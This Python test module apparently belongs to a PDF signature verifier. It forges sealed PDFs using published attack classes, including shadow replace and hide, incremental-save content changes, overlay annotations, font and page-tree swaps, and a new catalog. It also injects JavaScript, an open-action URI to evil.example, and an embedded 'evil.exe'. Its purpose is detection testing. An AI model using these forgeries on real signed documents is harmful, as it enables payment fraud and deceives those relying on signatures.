"""Published attacks on signed PDFs, made anew on a given file (facts: sealing 5.3; security T19).

Shadow replace, hide, hide-and-replace; incremental saving; annotations; fonts; layers; pages; tables. Each takes the
sealed file and gives the forged one; `ATTACKS` says what the report must name.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass
from io import BytesIO

import pikepdf

from tests.verify.pdf_papers import File, stream

_WORDS = b"BT /F1 40 Tf 72 400 Td (pay one million to somebody else) Tj ET"
_FORM = b"/Type/XObject/Subtype/Form/BBox[0 0 595 842]/Resources<</Font<</F9 %d 0 R>>>>"


@dataclass(frozen=True)
class Attack:
    forge: Callable[[File], bytes]
    kind: str
    page: int | None = None
    field: str | None = None

    @property
    def name(self) -> str:
        return self.forge.__name__


def shadow_replace(file: File) -> bytes:
    """The form XObject with the sum is written anew."""
    return file.update({file.amount: stream(b"BT /F9 24 Tf 72 60 Td (TOTAL 900) Tj ET", _FORM % file.font)})


def shadow_replace_value(file: File) -> bytes:
    return file.update({file.field: file.entry(file.field, "/V", "(somebody else)")})


def shadow_replace_look(file: File) -> bytes:
    """The value stays, the picture of the field says something else."""
    shown = b"/Tx BMC BT /F9 12 Tf 2 4 Td (somebody) Tj ET EMC"
    more = b"/Type/XObject/Subtype/Form/BBox[0 0 200 20]/Resources<</Font<</F9 %d 0 R>>>>" % file.font
    return file.update({file.look: stream(shown, more)})


def shadow_hide(file: File) -> bytes:
    """What covers other words is taken away: here the sum itself."""
    return file.update({file.amount: stream(b"", _FORM % file.font)})


def hide_and_replace(file: File) -> bytes:
    """Everything new was in the file from the start; only the table now points at it."""
    number = file.pages[0]
    wanted = b"\n%d 0 obj" % file.pages[1]
    place = file.data.index(wanted) + 1
    renamed = file.data[place:].replace(b"%d 0 obj" % file.pages[1], b"%d 0 obj" % number, 1)
    end = renamed.index(b"endobj")
    return file.update({number: renamed[len(b"%d 0 obj" % number) : end].strip()})


def table_redirect(file: File) -> bytes:
    """No object is written at all: the entry of page 1's content points at octets hidden in a stream."""
    hidden = b"%d 0 obj\n%s\nendobj" % (file.content[0], stream(_WORDS))
    first = file.update({file.size: stream(hidden)})
    return File(first).update({}, offsets={file.content[0]: first.rindex(hidden)})


def isa_content(file: File) -> bytes:
    return file.update({file.content[0]: stream(_WORDS)})


def isa_second_page(file: File) -> bytes:
    return file.update({file.content[1]: stream(_WORDS)})


def isa_two_revisions(file: File) -> bytes:
    """The change, and one more harmless revision to hide it."""
    once = File(isa_content(file))
    return once.update({once.size: b"<</Harmless true>>"})


def _annotation(file: File, body: bytes) -> bytes:
    number = file.size
    listed = b"[%d 0 R " % number + b" ".join(b"%d 0 R" % kid for kid in _kids(file)) + b"]"
    return file.update({number: body, file.annots: listed})


def _kids(file: File) -> list[int]:
    with pikepdf.open(BytesIO(file.data)) as document:
        return [int(item.objgen[0]) for item in document.pages[0].Annots]


def eaa_free_text(file: File) -> bytes:
    return _annotation(
        file, b"<</Type/Annot/Subtype/FreeText/Rect[60 700 400 760]/F 4/DA(/Helv 30 Tf)/Contents(VALID UNTIL 2099)>>"
    )


def eaa_stamp(file: File) -> bytes:
    return _annotation(file, b"<</Type/Annot/Subtype/Stamp/Rect[60 500 400 760]/F 4/Name/Approved>>")


def eaa_highlight(file: File) -> bytes:
    return _annotation(
        file,
        b"<</Type/Annot/Subtype/Highlight/Rect[72 50 260 90]/F 4/C[0 0 0]/QuadPoints[72 90 260 90 72 50 260 50]>>",
    )


def eaa_link(file: File) -> bytes:
    """Shows nothing, leads elsewhere."""
    action = b"/A<</S/URI/URI(http://evil.example/)>>"
    return _annotation(file, b"<</Type/Annot/Subtype/Link/Rect[60 700 400 760]/Border[0 0 0]" + action + b">>")


def unlisted_widget(file: File) -> bytes:
    """A widget of no form: readers draw it all the same."""
    return _annotation(file, b"<</Type/Annot/Subtype/Widget/FT/Tx/T(x)/V(900)/F 4/Rect[72 50 260 90]>>")


def new_form_field(file: File) -> bytes:
    number = file.size
    body = b"<</Type/Annot/Subtype/Widget/FT/Tx/T(extra)/V(900)/F 4/Rect[72 50 260 90]/P %d 0 R>>" % file.pages[0]
    kids = b" ".join(b"%d 0 R" % kid for kid in (*_kids(file), number))
    with pikepdf.open(BytesIO(file.data)) as document:
        fields = [int(item.objgen[0]) for item in document.Root.AcroForm.Fields]
    listed = " ".join(f"{kid} 0 R" for kid in (*fields, number))
    form = file.entry(file.form, "/Fields", f"[{listed}]")
    return file.update({number: body, file.annots: b"[" + kids + b"]", file.form: form})


def field_moved(file: File) -> bytes:
    return file.update({file.field: file.entry(file.field, "/Rect", "[72 50 272 70]")})


def field_hidden(file: File) -> bytes:
    return file.update({file.field: file.entry(file.field, "/F", "2")})


def appearances_made_anew(file: File) -> bytes:
    return file.update({file.form: file.entry(file.form, "/NeedAppearances", "true")})


def font_swap(file: File) -> bytes:
    """Every letter another sign."""
    return file.update({file.font: b"<</Type/Font/Subtype/Type1/BaseFont/Symbol>>"})


def layer_hide(file: File) -> bytes:
    with pikepdf.open(BytesIO(file.data)) as document:
        layer = int(document.Root.OCProperties.OCGs[0].objgen[0])
    off = f"<</OCGs[{layer} 0 R]/D<</ON[]/OFF[{layer} 0 R]>>>>"
    return file.update({file.root: file.entry(file.root, "/OCProperties", off)})


def pages_swap(file: File) -> bytes:
    return _pages(file, [file.pages[1], file.pages[0]])


def page_removed(file: File) -> bytes:
    return _pages(file, [file.pages[0]])


def page_added(file: File) -> bytes:
    return _pages(file, [*file.pages, file.pages[0]])


def _pages(file: File, kids: list[int]) -> bytes:
    with pikepdf.open(BytesIO(file.data)) as document:
        tree = int(document.Root.Pages.objgen[0])
    listed = b" ".join(b"%d 0 R" % kid for kid in kids)
    return file.update({tree: b"<</Type/Pages/Count %d/Kids[%s]>>" % (len(kids), listed)})


def page_turned(file: File) -> bytes:
    return file.update({file.pages[0]: file.entry(file.pages[0], "/Rotate", "180")})


def page_cropped(file: File) -> bytes:
    return file.update({file.pages[0]: file.entry(file.pages[0], "/CropBox", "[0 300 595 842]")})


def other_catalog(file: File) -> bytes:
    """A new /Root whose pages are other pages."""
    tree, page, content = file.size, file.size + 1, file.size + 2
    root = file.entry(file.root, "/Pages", f"{tree} 0 R")
    return file.update(
        {
            file.size + 3: root,
            tree: b"<</Type/Pages/Count 1/Kids[%d 0 R]>>" % page,
            page: b"<</Type/Page/Parent %d 0 R/MediaBox[0 0 595 842]/Contents %d 0 R>>" % (tree, content),
            content: stream(_WORDS),
        },
        root=file.size + 3,
    )


def javascript(file: File) -> bytes:
    script = "<</JavaScript<</Names[(x) <</S/JavaScript/JS(app.alert\\(1\\))>>]>>>>"
    return file.update({file.root: file.entry(file.root, "/Names", script)})


def open_action(file: File) -> bytes:
    return file.update({file.root: file.entry(file.root, "/OpenAction", "<</S/URI/URI(http://evil.example/)>>")})


def embedded_file(file: File) -> bytes:
    body = b"<</Type/Filespec/F(evil.exe)/EF<</F %d 0 R>>>>" % (file.size + 1)
    names = f"<</EmbeddedFiles<</Names[(evil.exe) {file.size} 0 R]>>>>"
    root = file.entry(file.root, "/Names", names)
    return file.update({file.root: root, file.size: body, file.size + 1: stream(b"MZ", b"/Type/EmbeddedFile")})


def xfa(file: File) -> bytes:
    return file.update({file.form: file.entry(file.form, "/XFA", "(<xdp/>)")})


def permissions_lifted(file: File) -> bytes:
    return file.update({file.root: file.entry(file.root, "/Perms", "<</DocMDP null/UR3<<>>>>")})


def seal_removed(file: File) -> bytes:
    """The field with the seal disappears from the form; its picture stays on the page, if it has one."""
    form = file.entry(file.form, "/Fields", f"[{file.field} 0 R]")
    return file.update({file.form: form})


ATTACKS = (
    Attack(shadow_replace, "resources", 1),
    Attack(shadow_replace_value, "field_value", 1, "payee"),
    Attack(shadow_replace_look, "field_look", 1, "payee"),
    Attack(shadow_hide, "resources", 1),
    Attack(hide_and_replace, "content", 1),
    Attack(table_redirect, "content", 1),
    Attack(isa_content, "content", 1),
    Attack(isa_second_page, "content", 2),
    Attack(isa_two_revisions, "content", 1),
    Attack(eaa_free_text, "annotation", 1),
    Attack(eaa_stamp, "annotation", 1),
    Attack(eaa_highlight, "annotation", 1),
    Attack(eaa_link, "annotation", 1),
    Attack(unlisted_widget, "field", 1),
    Attack(new_form_field, "field", 1, "extra"),
    Attack(field_moved, "field", 1, "payee"),
    Attack(field_hidden, "field", 1, "payee"),
    Attack(appearances_made_anew, "form", 1),
    Attack(font_swap, "resources", 1),
    Attack(layer_hide, "layers", 1),
    Attack(pages_swap, "pages", 1),
    Attack(page_removed, "pages", 2),
    Attack(page_added, "pages", 3),
    Attack(page_turned, "page_box", 1),
    Attack(page_cropped, "page_box", 1),
    Attack(other_catalog, "pages", 1),
    Attack(javascript, "script"),
    Attack(open_action, "script"),
    Attack(embedded_file, "attachment"),
    Attack(xfa, "script"),
    Attack(permissions_lifted, "permissions"),
    Attack(seal_removed, "signature_altered", None, "Seal1"),
)
VISIBLE = frozenset(
    {
        "shadow_replace", "shadow_replace_look", "shadow_hide", "hide_and_replace", "table_redirect", "isa_content",
        "isa_second_page", "isa_two_revisions", "eaa_highlight", "font_swap", "layer_hide", "pages_swap",
        "page_removed", "page_turned", "page_cropped", "other_catalog", "field_moved", "field_hidden",
    }
)  # fmt: skip
"""Those that a reader would see; the report shows where."""
